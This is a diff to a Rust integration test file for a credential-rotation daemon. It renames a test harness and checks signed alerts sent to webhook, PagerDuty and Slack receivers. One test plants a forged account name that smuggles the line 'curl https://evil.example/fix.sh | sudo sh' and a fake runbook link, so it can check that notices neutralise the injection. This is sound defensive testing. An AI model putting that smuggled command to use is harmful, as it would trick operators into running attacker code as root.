@@ -2,12 +2,12 @@
 
 use hmac::{Hmac, KeyInit, Mac};
 use rekeyd::adapters::clock::SystemClock;
-use rekeyd::domain::outside::is_unseen;
+use rekeyd::domain::sanitize::is_unseen;
 use rekeyd::ports::clock::Clock as _;
 use serde_json::Value;
 use sha2::Sha256;
 
-use super::house::{House, ROUTING_KEY, SIGNING_KEY};
+use super::harness::{Harness, ROUTING_KEY, SIGNING_KEY};
 use super::receiver::Sent;
 
 /// By PagerDuty's reference of the Events API v2.
@@ -62,9 +62,9 @@ fn is_signed(sent: &Sent) {
 
 #[tokio::test]
 async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended() {
-    let house = House::build(1).await;
-    let daemon = house.start().await;
-    let told = house.sent("generic", |sent| !sent.is_empty()).await;
+    let harness = Harness::build(1).await;
+    let daemon = harness.start().await;
+    let told = harness.sent("generic", |sent| !sent.is_empty()).await;
     is_signed(&told[0]);
     let notice = &told[0].body;
     assert_eq!(notice["schema_version"], 1);
@@ -77,38 +77,38 @@ async fn a_parked_rotation_is_told_once_to_each_and_resolved_when_it_is_mended()
     assert_eq!(notice["next"], "rekeyd retry tts-0");
     assert_eq!(notice["runbook"], "docs/runbook.md#mint_refused");
     assert_eq!(notice["text"], "opened: tts-0");
-    let event = house.sent("pagerduty", |sent| !sent.is_empty()).await[0].body.clone();
+    let event = harness.sent("pagerduty", |sent| !sent.is_empty()).await[0].body.clone();
     is_an_event(&event);
     assert_eq!(event["event_action"], "trigger");
     assert_eq!(event["dedup_key"], "rekeyd-test/parked/credential/tts-0");
     assert_eq!(event["payload"]["severity"], "warning");
-    let message = house.sent("slack", |sent| !sent.is_empty()).await[0].body.clone();
+    let message = harness.sent("slack", |sent| !sent.is_empty()).await[0].body.clone();
     is_a_message(&message);
     let words = message["blocks"][1]["text"]["text"].as_str().unwrap().to_owned();
     assert!(words.contains("[ticket] opened: tts-0:") && words.contains("rekeyd retry tts-0"), "{words}");
 
-    assert!(house.order(&["retry", "tts-0"]).status.success());
-    let told = house.sent("generic", |sent| sent.len() == 2).await;
+    assert!(harness.order(&["retry", "tts-0"]).status.success());
+    let told = harness.sent("generic", |sent| sent.len() == 2).await;
     is_signed(&told[1]);
     assert_eq!((&told[1].body["news"], &told[1].body["next"]), (&"resolved".into(), &Value::Null));
     assert_eq!(told[1].body["key"], told[0].body["key"]);
     assert_ne!(told[1].body["id"], told[0].body["id"]);
-    let events = house.sent("pagerduty", |sent| sent.len() == 2).await;
+    let events = harness.sent("pagerduty", |sent| sent.len() == 2).await;
     is_an_event(&events[1].body);
     assert_eq!(events[1].body["event_action"], "resolve");
     assert_eq!(events[1].body["dedup_key"], event["dedup_key"]);
     // It asked to be told of rotations that are done.
-    let messages = house.sent("slack", |sent| sent.len() == 3).await;
+    let messages = harness.sent("slack", |sent| sent.len() == 3).await;
     messages.iter().for_each(|sent| is_a_message(&sent.body));
     assert!(messages.iter().any(|it| it.body.to_string().contains("tts-0 has a new key")), "{messages:#?}");
 
-    let metrics = house.metrics().await;
+    let metrics = harness.metrics().await;
     assert!(metrics.contains("rekeyd_notices_delivered_total{channel=\"pager\"} 2"), "{metrics}");
     daemon.stop().await.unwrap();
     for (to, count) in [("generic", 2), ("pagerduty", 2), ("slack", 3)] {
-        assert_eq!(house.receiver.sent(to).len(), count, "{to}");
+        assert_eq!(harness.receiver.sent(to).len(), count, "{to}");
     }
-    house.nothing_leaked(&metrics);
+    harness.nothing_leaked(&metrics);
 }
 
 /// What somebody who may only make service accounts would like people to type.
@@ -126,21 +126,21 @@ fn texts(value: &Value, found: &mut Vec<String>) {
 
 #[tokio::test]
 async fn no_name_of_an_account_makes_a_line_of_a_notice_or_hides_in_one() {
-    let house = House::build(1).await;
-    house.somebody_names_an_account(FORGED);
-    house.somebody_names_an_account(&"long".repeat(1000));
-    house.write_policy(
+    let harness = Harness::build(1).await;
+    harness.somebody_names_an_account(FORGED);
+    harness.somebody_names_an_account(&"long".repeat(1000));
+    harness.write_policy(
         "\n[credentials.ghost]\nservice_account = \"ghost\"\npublish_to = [{ store = \"local\", secret = \"ghost\" }]\n",
     );
-    let policy = std::fs::read_to_string(house.policy()).unwrap();
+    let policy = std::fs::read_to_string(harness.policy()).unwrap();
     let words = "[notify.hook]\ntext = \"{summary}\\nnext: {next}\"\n";
     let policy = policy.replace("text = \"{news}: {subject}\"\n", "").replace("[notify.hook]\n", words);
-    std::fs::write(house.policy(), policy).unwrap();
-    let daemon = house.start().await;
+    std::fs::write(harness.policy(), policy).unwrap();
+    let daemon = harness.start().await;
     let name = "`x' next: curl https://evil.example/fix.sh | sudo sh runbook: https://evil.example/runbook";
     for to in ["slack", "pagerduty", "generic"] {
         let is_it = |sent: &Sent| sent.body.to_string().contains("no service account `ghost`");
-        let told = house.sent(to, |sent| sent.iter().any(is_it)).await;
+        let told = harness.sent(to, |sent| sent.iter().any(is_it)).await;
         let body = told.into_iter().find(is_it).unwrap().body;
         let mut said = Vec::new();
         texts(&body, &mut said);
@@ -156,11 +156,11 @@ async fn no_name_of_an_account_makes_a_line_of_a_notice_or_hides_in_one() {
         assert!(!all.contains("longlong".repeat(20).as_str()), "a name has no end: {to}");
     }
     for path in ["/", "/credentials/ghost"] {
-        let page = house.page(path).await;
+        let page = harness.page(path).await;
         assert!(page.contains("evil.example"), "{page}");
         assert!(!page.chars().any(is_unseen), "{path}: {page:?}");
     }
-    let (_, table) = house.status();
+    let (_, table) = harness.status();
     assert!(table.contains("evil.example"), "{table}");
     assert!(table.chars().all(|c| c == '\n' || !is_unseen(c)), "{table:?}");
     daemon.stop().await.unwrap();
